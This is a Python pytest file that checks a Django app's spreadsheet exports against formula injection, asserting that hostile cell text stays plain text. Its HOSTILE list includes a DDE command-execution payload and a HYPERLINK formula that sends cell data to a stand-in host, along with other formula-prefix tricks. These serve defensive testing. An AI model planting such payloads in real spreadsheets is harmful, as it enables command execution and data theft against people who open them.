"""No text of the data becomes a formula in a sheet that leaves the system."""

import re
from io import BytesIO
from zipfile import ZipFile

import pytest
from django.urls import reverse
from python_calamine import CalamineWorkbook

from accounts import policy
from accounts.permissions import Permission
from awards.views.sheets import send_sheet
from decisions.models import DecisionLine
from tests.conftest import sign_in
from tests.factories.units import make_user

HOSTILE = [
    "=cmd|'/c calc'!A1", '=HYPERLINK("http://x/?"&A1,"Bấm")', "@SUM(A1)", "+1+1", "-2+3", "\t=1+1", "\r=1+1", "{=1+1}",
    "＝1+1", "=1+1", "http://x/a", "internal:A1", "1E5", "007",
]  # fmt: skip


def markup(data: bytes) -> str:
    with ZipFile(BytesIO(data)) as archive:
        names = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any("externalLinks" in name or "vba" in name for name in archive.namelist())
        return "".join(archive.read(name).decode() for name in names)


@pytest.mark.once
def test_every_text_of_a_list_stays_a_text():
    data = send_sheet("danh-sach", "Danh sách", [("Tên", 30)], [[text] for text in HOSTILE]).content
    assert not re.findall(r"<f[ >]|<hyperlink", markup(data))
    cells = CalamineWorkbook.from_filelike(BytesIO(data)).get_sheet_by_index(0).to_python()
    assert [row[0].strip() for row in cells[1:]] == [text.strip() for text in HOSTILE]


def test_the_list_of_bonuses_has_one_formula_its_sum(desk):
    issued = desk.issued()
    first, second = issued.lines.order_by("order")
    for line, text in ((first, HOSTILE[0]), (second, HOSTILE[1])):
        DecisionLine.objects.filter(pk=line.pk).update(name_printed=text, unit_printed=text)
    cashier = make_user()
    policy.give(cashier, [Permission.PAYMENT_RECORD, Permission.DECISION_VIEW], desk.world.unit)
    data = sign_in(cashier).get(reverse("decisions:payment_export")).content
    assert re.findall(r"<f>(.*?)</f>", markup(data)) == ["SUM(H2:H3)"]
